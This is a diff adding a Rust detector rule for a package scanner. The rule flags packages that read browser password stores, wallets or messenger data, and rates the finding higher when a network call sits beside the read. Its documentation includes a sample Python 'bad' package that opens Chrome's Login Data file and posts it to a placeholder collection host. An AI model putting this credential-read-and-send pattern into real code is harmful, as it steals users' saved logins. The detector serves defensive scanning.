@@ -1,0 +1,61 @@
+//! Browser stores, wallets or messages are read.
+
+use bulkhead_core::{Confidence, Severity};
+
+use super::code::{Rule, beside, quoted, say, when};
+use crate::archive::Archive;
+use crate::behaviour::{Ability, Sources, unasked};
+use crate::detector::Meta;
+use crate::findings::Findings;
+
+const META: Meta = Meta {
+    id: "private-data",
+    title: "browser stores, wallets or messages are read",
+    severity: Severity::High,
+    confidence: Confidence::Medium,
+    doc: "\
+What browsers, wallets and messengers store (passwords, cookies, keys, session tokens) is read. A package that is about these says so; in any other it is
+theft, most of all beside a connection to the network.
+
+```recipe bad
+archive demo-1.0-py3-none-any.whl
+--- demo/__init__.py
+import os, sqlite3, requests
+path = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data'
+rows = sqlite3.connect(path).execute('select 1').fetchall()
+requests.post('https://collect.test/', json=rows)
+```
+
+```recipe good
+archive demo-1.0-py3-none-any.whl
+--- demo/__init__.py
+import os
+CACHE = os.path.join(os.path.expanduser('~'), '.cache', 'demo')
+```
+
+What to do: refuse the release; if it is your own, read the line that is shown.
+",
+};
+
+/// See its `META`.
+pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };
+
+fn check(archive: &Archive, findings: &mut Findings) {
+    for behaviour in &archive.code.behaviours {
+        let effect = &behaviour.effect;
+        let what = match effect.ability {
+            Ability::ReadBrowser => "what a browser or messenger stores is read",
+            Ability::Wallet => "a wallet is read or changed",
+            Ability::Network if effect.from.any(Sources::PRIVATE) => "private data goes to the network",
+            _ => continue,
+        };
+        let network = effect.ability == Ability::Network || beside(archive, behaviour, Ability::Network, Sources::NONE);
+        let weight = match (unasked(behaviour.context), network) {
+            (true, true) => (Severity::Critical, Confidence::High),
+            (true, false) => (Severity::High, Confidence::Medium),
+            (false, true) => (Severity::Medium, Confidence::High),
+            (false, false) => (Severity::Medium, Confidence::Low),
+        };
+        say(findings, &META, behaviour, weight, format!("{what} {}: {}", when(behaviour.context), quoted(behaviour)));
+    }
+}
